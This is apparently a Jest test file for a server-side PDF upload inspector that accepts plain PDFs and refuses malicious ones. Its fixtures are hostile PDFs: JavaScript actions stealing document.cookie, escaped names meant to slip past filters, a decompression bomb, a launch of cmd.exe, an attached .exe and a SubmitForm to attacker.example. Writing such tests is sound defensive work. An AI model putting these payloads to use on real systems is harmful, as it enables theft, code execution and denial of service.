// Uploaded PDFs parsed whole: a plain document passes; what is not a PDF, does not parse, has no page, is
// encrypted or holds active content (anywhere, compressed or not, however its names are spelt) is refused.
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import DecodeStream from 'pdf-lib/cjs/core/streams/DecodeStream';
import { inspectPdf, PDF_INFLATION_BUDGET_BYTES } from '../../server/services/pdfInspection';
import { png } from './images';
import { plainPdf } from './pdfs';

const JS = '<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>';

/** A PDF written by pdf-lib: one page of text, with its objects compressed in object streams (pdf-lib's default). */
async function writtenPdf(change?: (document: PDFDocument) => void | Promise<void>): Promise<Uint8Array> {
  const document = await PDFDocument.create({ updateMetadata: false });
  const font = await document.embedFont(StandardFonts.Helvetica);
  document.addPage([595, 842]).drawText('Modelo 036 - Declaracion censal', { x: 50, y: 780, size: 14, font });
  await change?.(document);
  return document.save();
}

describe('PDF inspection', () => {
  it('takes a plain document, written by hand or by a library, with its pages counted', async () => {
    expect(await inspectPdf(plainPdf())).toEqual({ ok: true, pages: 1 });
    expect(await inspectPdf(await writtenPdf())).toEqual({ ok: true, pages: 1 });
    // A link to a web page is not active content.
    const link = plainPdf({ page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://sede.agenciatributaria.gob.es) >> >>'] });
    expect(await inspectPdf(link)).toEqual({ ok: true, pages: 1 });
  });

  it('refuses what is not a PDF, and HTML that merely starts like one', async () => {
    expect(await inspectPdf(png(800, 600))).toMatchObject({ ok: false, problem: 'not-pdf', code: 'DOCUMENT_NOT_PDF' });
    expect(await inspectPdf(Buffer.alloc(0))).toMatchObject({ problem: 'not-pdf' });
    const html = Buffer.from('%PDF-1.7\n<html><body><script>alert(document.domain)</script></body></html>\n');
    expect(await inspectPdf(html)).toMatchObject({ ok: false, problem: 'not-decodable', code: 'DOCUMENT_NOT_DECODABLE' });
  });

  it('refuses a PDF without pages, one with a broken object, and one cut short', async () => {
    expect(await inspectPdf(plainPdf({ withPage: false }))).toMatchObject({ ok: false, problem: 'not-decodable' });
    expect(await inspectPdf(plainPdf({ objects: ['<< /Broken [1 2 >> ]'] }))).toMatchObject({ problem: 'not-decodable' });
    const whole = plainPdf();
    expect(await inspectPdf(whole.subarray(0, 300))).toMatchObject({ problem: 'not-decodable' });
  });

  it('refuses an encrypted PDF: what it holds cannot be looked at', async () => {
    const encrypted = plainPdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'] });
    expect(await inspectPdf(encrypted)).toMatchObject({ ok: false, problem: 'encrypted', code: 'DOCUMENT_ENCRYPTED' });
  });

  it('refuses JavaScript wherever a reader would run it: on opening, on a page event, in the names tree', async () => {
    const cases = {
      openAction: plainPdf({ catalog: '/OpenAction 5 0 R', objects: [JS] }),
      openActionDirect: plainPdf({ catalog: `/OpenAction ${JS}` }),
      pageEvent: plainPdf({ page: '/AA << /O 5 0 R >>', objects: [JS] }),
      namesTree: plainPdf({ catalog: '/Names << /JavaScript 5 0 R >>', objects: ['<< /Names [(init) 6 0 R] >>', JS] }),
      // The name spelt with escapes, upper- and lower-case hex: readers decode both.
      escaped: plainPdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }),
      escapedLowerCase: plainPdf({ catalog: '/OpenAction << /S /#4aavaScript >>' }),
      // Unreachable, but in the file: refused all the same.
      unreachable: plainPdf({ objects: [JS] }),
    };
    for (const [name, pdf] of Object.entries(cases)) {
      expect({ name, result: await inspectPdf(pdf) }).toMatchObject({ name, result: { ok: false, problem: 'active-content', code: 'DOCUMENT_ACTIVE_CONTENT', found: expect.stringMatching(/^(JavaScript|JS)$/) } });
    }
  });

  it('finds JavaScript inside compressed object streams too', async () => {
    const pdf = await writtenPdf((document) => {
      const action = document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
      document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
    });
    // Compressed: the action's words are not in the file's bytes.
    expect(Buffer.from(pdf).toString('latin1')).not.toContain('/JavaScript');
    expect(await inspectPdf(pdf)).toMatchObject({ ok: false, problem: 'active-content', found: 'JavaScript' });
  });

  it('refuses a file of a few kilobytes whose object stream would inflate to 128 MiB, having inflated no more than its budget', async () => {
    // The object stream compressed twice over: 128 MiB of spaces deflate to 128 KiB, which deflate again to ~1 KiB.
    const inflated = 128 * 1024 * 1024;
    const once = deflateSync(Buffer.alloc(inflated, 0x20), { level: 9 });
    const twice = deflateSync(once, { level: 9 });
    const head = `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${twice.length} >>\nstream\n`;
    const bomb = Buffer.concat([Buffer.from(head, 'latin1'), twice, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1')]);
    expect(bomb.length).toBeLessThan(8 * 1024);

    // The largest buffer pdf-lib's decoders were let grow to.
    const decoders = DecodeStream.prototype as unknown as { ensureBuffer(requested: number): Uint8Array };
    const budgeted = decoders.ensureBuffer;
    let largest = 0;
    decoders.ensureBuffer = function (this: unknown, requested: number) {
      const buffer = budgeted.call(this, requested);
      largest = Math.max(largest, buffer.byteLength);
      return buffer;
    };
    try {
      expect(await inspectPdf(bomb)).toMatchObject({ ok: false, problem: 'not-decodable' });
    } finally {
      decoders.ensureBuffer = budgeted;
    }
    expect(largest).toBeGreaterThan(0);
    expect(largest).toBeLessThanOrEqual(2 * PDF_INFLATION_BUDGET_BYTES);
    // Each inspection has a budget of its own: the next document is not charged for this one.
    expect(await inspectPdf(await writtenPdf())).toMatchObject({ ok: true });
  });

  it('refuses launch actions, attached files, actions that open other files or send data, XFA forms and rich media', async () => {
    const cases: [string, Uint8Array, string][] = [
      ['launch', plainPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'Launch'],
      ['attached file', await writtenPdf((document) => document.attach(Buffer.from('MZ...'), 'invoice.exe', { mimeType: 'application/octet-stream' })), 'EmbeddedFiles'],
      ['file attachment annotation', plainPdf({ page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] >>'] }), 'FileAttachment'],
      ['remote file', plainPdf({ catalog: '/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>' }), 'GoToR'],
      ['submit form', plainPdf({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example) >> >>' }), 'SubmitForm'],
      ['xfa', plainPdf({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: ['<< /Length 0 >>\nstream\n\nendstream'] }), 'XFA'],
      ['rich media', plainPdf({ page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'] }), 'RichMedia'],
    ];
    for (const [name, pdf, found] of cases) {
      expect({ name, result: await inspectPdf(pdf) }).toMatchObject({ name, result: { ok: false, problem: 'active-content', found } });
    }
  });
});
